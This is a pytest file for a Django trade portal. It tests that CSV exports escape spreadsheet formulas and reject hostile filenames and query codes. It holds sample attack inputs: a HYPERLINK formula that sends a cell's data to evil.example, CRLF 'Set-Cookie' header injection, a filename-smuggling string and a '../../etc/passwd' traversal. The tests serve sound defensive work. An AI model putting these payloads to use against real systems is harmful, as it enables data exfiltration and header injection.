"""Every CSV the portal writes goes through one writer: a stored cell that a spreadsheet would run as a
formula comes out prefixed with `'`, and nothing a caller sends reaches the Content-Disposition header
(a bad code is a 400 naming the field, never a 500)."""

import csv
import io
from decimal import Decimal

import pytest
from django.utils import timezone
from rest_framework.test import APIClient

from declarations.models import ExportInventoryList, InventoryList
from finance.models import TaxBill
from singlewindow.core.csv import csv_response, safe_cell, safe_filename
from singlewindow.core.months import last_month

from .factories import MembershipFactory, official

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("no_random_inspection")]

# Short enough for the narrowest column it is stored in (50 characters on PostgreSQL).
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Go")'


def rows_of(response) -> list[list[str]]:
    assert response.status_code == 200, response.content[:300]
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def officer(agency: str) -> APIClient:
    client = APIClient()
    client.force_authenticate(official(agency, f"{agency}-csv"))
    return client


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (FORMULA, "'" + FORMULA),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("plain 文本", "plain 文本"),
        (None, ""),
        (Decimal("-12.50"), Decimal("-12.50")),  # a number the portal computed stays a number
        (-3, -3),
    ],
)
def test_a_cell_is_never_a_formula(value, written):
    assert safe_cell(value) == written


@pytest.mark.parametrize(
    "name",
    [
        'a"; filename="evil.exe',
        "tax\r\nSet-Cookie: x=1",
        "../../etc/passwd",
        "汇总 summary.csv",
    ],
)
def test_a_file_name_keeps_only_safe_characters(name):
    cleaned = safe_filename(name)
    assert cleaned and set(cleaned) <= set(
        "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789._-"
    )
    assert not cleaned.startswith(".")
    response = csv_response(name, ["a"], [[1]])
    assert response["Content-Disposition"] == f'attachment; filename="{cleaned}"'


def _released_bill(world, capture) -> TaxBill:
    docs = world.declaration(1)
    with capture(execute=True):
        world.declare(docs)
    assert InventoryList.objects.get().status == "released"
    year, month = last_month()
    TaxBill.objects.update(created_at=timezone.make_aware(timezone.datetime(year, month, 20, 9, 0)))
    return TaxBill.objects.get()


def test_tax_summary_csv_neutralises_stored_formulas(world, django_capture_on_commit_callbacks):
    bill = _released_bill(world, django_capture_on_commit_callbacks)
    TaxBill.objects.filter(pk=bill.pk).update(tax_no=FORMULA, invt_no="@SUM(1+1)", ebc_code="+cmd")
    year, month = last_month()
    rows = rows_of(world.client("seller").get(f"/api/v1/tax-summary/csv/?year={year}&month={month}"))
    line = next(r for r in rows if r[0] == "bill")
    assert line[1:4] == ["'" + FORMULA, "'@SUM(1+1)", "'+cmd"]
    assert Decimal(next(r for r in rows if r[0] == "amount_due")[7]) == bill.total  # still a number


def test_forex_statement_csv_neutralises_stored_formulas(world, django_capture_on_commit_callbacks):
    with django_capture_on_commit_callbacks(execute=True):
        world.declare_export(world.export(1, trade_mode="9710"))
    ExportInventoryList.objects.update(order_no=FORMULA, invt_no="-1+1")
    today = timezone.localdate()
    rows = rows_of(
        world.client("seller").get(f"/api/v1/forex-statement/csv/?year={today.year}&month={today.month}")
    )
    assert rows[1][:2] == ["'-1+1", "'" + FORMULA]


def test_dashboard_csv_neutralises_stored_formulas(client, world, django_capture_on_commit_callbacks):
    with django_capture_on_commit_callbacks(execute=True):
        world.declare(world.declaration(1))
    world.seller.name_zh = world.seller.name_en = FORMULA
    world.seller.save()
    client.force_login(official("customs", "customs-dashboard"))
    response = client.get("/dashboard/csv/enterprise/")
    rows = rows_of(response)
    (label,) = [cell for cell in rows[1] if "HYPERLINK" in cell]  # "name (code)"
    assert label.startswith("'" + FORMULA)
    assert response["Content-Disposition"].startswith('attachment; filename="enterprise-')


HOSTILE_CODES = ["3301960002\r\nSet-Cookie: a=b", '3301960002"; filename="x.exe', "33019 60002", "=1+1"]


@pytest.mark.parametrize("code", HOSTILE_CODES)
@pytest.mark.parametrize(
    ("url", "field", "agency"),
    [
        ("/api/v1/tax-summary/csv/", "assure_code", "tax"),
        ("/api/v1/tax-summary/", "assure_code", "customs"),
        ("/api/v1/forex-statement/csv/", "ebc_code", "forex"),
        ("/api/v1/forex-statement/", "ebc_code", "commerce"),
    ],
)
def test_a_hostile_code_in_the_query_is_a_400_naming_it(db, url, field, agency, code):
    answer = officer(agency).get(url, {"year": 2026, "month": 1, field: code})
    assert answer.status_code == 400
    body = answer.json()
    assert field in body["fields"] and body["code"] == "invalid"
    assert "Content-Disposition" not in answer


@pytest.mark.parametrize("code", HOSTILE_CODES)
def test_a_hostile_code_on_the_pages_is_a_form_error(client, world, code):
    client.force_login(MembershipFactory(enterprise=world.seller).user)
    for url, field in (("/finance/tax-summary/", "assure_code"), ("/finance/forex/", "ebc_code")):
        answer = client.get(url, {"year": 2026, "month": 1, field: code})
        assert answer.status_code == 200
        assert 'id="tax-summary-csv"' not in answer.content.decode()
        assert 'id="forex-statement-csv"' not in answer.content.decode()


def test_an_enterprise_gets_its_own_csv_with_a_clean_name(world, django_capture_on_commit_callbacks):
    _released_bill(world, django_capture_on_commit_callbacks)
    year, month = last_month()
    answer = world.client("seller").get(f"/api/v1/tax-summary/csv/?year={year}&month={month}")
    code = world.seller.customs_code
    assert answer["Content-Disposition"] == (
        f'attachment; filename="tax-summary-{code}-{year}-{month:02d}.csv"'
    )
